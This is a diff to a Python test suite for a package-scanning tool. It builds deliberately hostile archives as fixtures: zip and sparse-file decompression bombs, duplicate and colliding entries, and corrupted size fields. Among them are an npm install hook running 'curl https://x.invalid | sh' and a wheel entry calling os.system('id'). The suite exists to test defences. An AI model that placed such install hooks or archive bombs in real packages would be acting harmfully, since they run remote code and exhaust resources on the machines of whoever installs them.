@@ -3,7 +3,8 @@
 
     hostile_archives.py BINARY [-v]
 
-Every archive is read in a worker and without one, and both reports must be the same. Where something
+Every archive is read in a worker and without one, by eight workers and by one, and all reports must be
+the same; those of the examples, too. Where something
 was left unread the verdict must not be "clean". CEREBRO_SLOW_TESTS=1 adds the ones that take long.
 Nothing in the archives would do harm; all hosts are under .invalid.
 """
@@ -155,6 +156,42 @@ def bomb_zip():
     return out.getvalue()
 
 
+def bomb_in_zip(method, megabytes):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", method) as archive:
+        archive.writestr("package/package.json", MANIFEST)
+        with archive.open("package/zeros", "w") as entry:
+            for _ in range(megabytes):
+                entry.write(b"\0" * (1 << 20))
+    return out.getvalue()
+
+
+@case("E0108", unread=True)
+def bomb_zip_bzip2():
+    return bomb_in_zip(zipfile.ZIP_BZIP2, 24)
+
+
+@case("E0108", unread=True)
+def bomb_zip_lzma():
+    return bomb_in_zip(zipfile.ZIP_LZMA, 24)
+
+
+def sparse(name, real_size):
+    """GNU's old form: a hole, and 512 bytes at the end."""
+    block = bytearray(header(name, 512, kind=b"S"))
+    block[257:265] = b"ustar  \0"
+    block[386:410] = b"%011o\0%011o\0" % (real_size - 512, 512)
+    block[483:495] = b"%011o\0" % real_size
+    block[148:156] = b" " * 8
+    block[148:156] = b"%06o\0 " % sum(block)
+    return bytes(block) + b"x" * 512
+
+
+@case("E0108", unread=True)
+def bomb_of_holes():
+    return npm(sparse("package/hole", (8 << 30) - 1))
+
+
 @case("E0108", unread=True)
 def bomb_behind_the_end_mark():
     pack = zlib.compressobj(9, wbits=31)
@@ -299,27 +336,27 @@ def overlong_name():
     return npm(pax(path="package/" + "d/" * 10_000 + "a.js"), ("package/a.js", CODE))
 
 
-@case("E0111", "exec.lifecycle_hook")
+@case("E0111", "archive.disagreement exec.lifecycle_hook")
 def duplicate_manifest_first():
     return npm(("package/package.json", MANIFEST), manifest=HOOK)
 
 
-@case("E0111", "exec.lifecycle_hook")
+@case("E0111", "archive.disagreement exec.lifecycle_hook")
 def duplicate_manifest_last():
     return npm(("package/package.json", HOOK))
 
 
-@case("E0111", "proc.run")
+@case("E0111", "archive.disagreement proc.run")
 def duplicate_code():
     return npm(("package/index.js", ""), code=CODE)
 
 
-@case("E0111", "exec.lifecycle_hook")
+@case("E0111", "archive.disagreement exec.lifecycle_hook")
 def case_collision():
     return npm(("package/Package.JSON", HOOK))
 
 
-@case("E0111", "proc.run")
+@case("E0111", "archive.disagreement proc.run")
 def unicode_collision():
     return npm(("package/\u00e9.js", ""), ("package/e\u0301.js", CODE), ("package/\ufb01.js", ""), ("package/fi.js", ""))
 
@@ -363,6 +400,21 @@ def pax_size_lies():
     return npm(pax(size="2000000"), ("package/b.js", CODE))
 
 
+@case("E0113", unread=True)
+def size_below_zero():
+    """In base 256, as GNU writes large sizes."""
+    block = bytearray(header("package/a.js"))
+    block[124:136] = b"\xff" * 11 + b"\x00"
+    block[148:156] = b" " * 8
+    block[148:156] = b"%06o\0 " % sum(block)
+    return npm(bytes(block), ("package/b.js", CODE))
+
+
+@case("", "proc.run")
+def file_and_folder():
+    return npm(("package/a.js", ""), ("package/a.js/index.js", CODE), manifest=MANIFEST.replace("index.js", "a.js"))
+
+
 @case("")
 def gnu_long_name():
     return npm(member("././@LongLink", b"package/" + b"l" * 3000 + b".js\0", kind=b"L"), ("package/short", CODE))
@@ -400,7 +452,7 @@ def zip_directory_of_no_bytes():
     return whole[:-10] + struct.pack("<2IH", 0, len(whole) - 22, 0)
 
 
-@case("E0113", unread=True)
+@case("E0113", "archive.disagreement", unread=True)
 def zip_renamed():
     whole = wheel(("evil.py", CODE))
     at = whole.rindex(b"evil.py", 0, whole.rindex(b"evil.py")) if whole.count(b"evil.py") > 3 else whole.rindex(b"evil.py")
@@ -419,7 +471,7 @@ def zip_with_two_names():
     return out.getvalue()
 
 
-@case("E0111", "proc.run")
+@case("E0111", "archive.disagreement proc.run")
 def zip_duplicate_entry():
     return wheel(("x.py", "import os; os.system('id')"), ("x.py", ""))
 
@@ -432,12 +484,12 @@ def zip_encrypted():
     return bytes(whole)
 
 
-@case("E0114")
+@case("E0114", "archive.disagreement")
 def wheel_record_misses_a_file():
     return wheel(("x.py", ""), ("sitecustomize.py", ""), record="x.py,,\n")
 
 
-@case("E0202")
+@case("E0202", "archive.disagreement")
 def wheel_record_has_another_hash():
     return wheel(("x.py", ""), record="x.py,sha256=AAAA,0\nx-1.0.dist-info/METADATA,,\nx-1.0.dist-info/WHEEL,,\n")
 
@@ -460,12 +512,12 @@ def too_many_roots():
     return tgz(*((f"p{i:03}/package.json", MANIFEST) for i in range(100)))
 
 
-@case("E0204", "exec.lifecycle_hook")
+@case("E0204", "archive.disagreement exec.lifecycle_hook")
 def json_duplicate_key():
     return npm(manifest=HOOK[:-1] + ', "scripts": {}}')
 
 
-@case("E0204", "exec.lifecycle_hook")
+@case("E0204", "archive.disagreement exec.lifecycle_hook")
 def json_duplicate_key_inside():
     return npm(manifest='{"name": "x", "scripts": {"install": "true", "install": "curl https://x.invalid | sh", "install": ""}}')
 
@@ -520,11 +572,14 @@ class HostileArchives(unittest.TestCase):
     def setUpClass(cls):
         cls.folder = Path(tempfile.mkdtemp())
         cls.paths = {}
+        cls.examples = sorted(str(path) for path in ROOT.glob("examples/*/*/"))
         for name, (make, *_) in CASES.items():
             path = cls.folder / (name + ".archive")
             path.write_bytes(make())
             cls.paths[str(path)] = name
-        cls.sandboxed, cls.bare = cls.scan(), cls.scan("--no-sandbox")
+        cls.paths.update({path: path for path in cls.examples})
+        cls.sandboxed, cls.bare = cls.scan("-j", "8"), cls.scan("-j", "8", "--no-sandbox")
+        cls.alone = cls.scan("-j", "1")
 
     @classmethod
     def tearDownClass(cls):
@@ -534,7 +589,7 @@ class HostileArchives(unittest.TestCase):
     def scan(cls, *options):
         output = cls.folder / "reports.jsonl"
         process = subprocess.Popen(
-            [CEREBRO, "scan", "-j", "2", "--format", "jsonl", "--threshold", "1", *options, "-o", str(output),
+            [CEREBRO, "scan", "--no-cache", "--format", "jsonl", "--threshold", "1", *options, "-o", str(output),
              *cls.paths], env={**os.environ, "CEREBRO_MODEL": str(MODEL)}, stderr=subprocess.PIPE)
         with process.stderr:
             error = process.stderr.read()
@@ -545,15 +600,20 @@ class HostileArchives(unittest.TestCase):
                 "reports": {cls.paths[report["target"]]: report for report in reports}}
 
     def test_ends_orderly(self):
-        for run in (self.sandboxed, self.bare):
+        for run in (self.sandboxed, self.bare, self.alone):
             self.assertEqual(run["code"], 3, run["error"])  # something was left unread
-            self.assertEqual(set(run["reports"]), set(CASES))
+            self.assertEqual(set(run["reports"]), {*CASES, *self.examples})
             self.assertLess(run["memory_kb"], MEMORY_KB)
 
     def test_sandbox_changes_nothing(self):
-        for name in CASES:
+        for name in [*CASES, *self.examples]:
             with self.subTest(name):
                 self.assertEqual(comparable(self.sandboxed["reports"][name]), comparable(self.bare["reports"][name]))
+
+    def test_number_of_workers_changes_nothing(self):
+        for name in [*CASES, *self.examples]:
+            with self.subTest(name):
+                self.assertEqual(comparable(self.sandboxed["reports"][name]), comparable(self.alone["reports"][name]))
 
     def test_notes_and_verdicts(self):
         for name, (_, codes, behaviours, unread) in CASES.items():
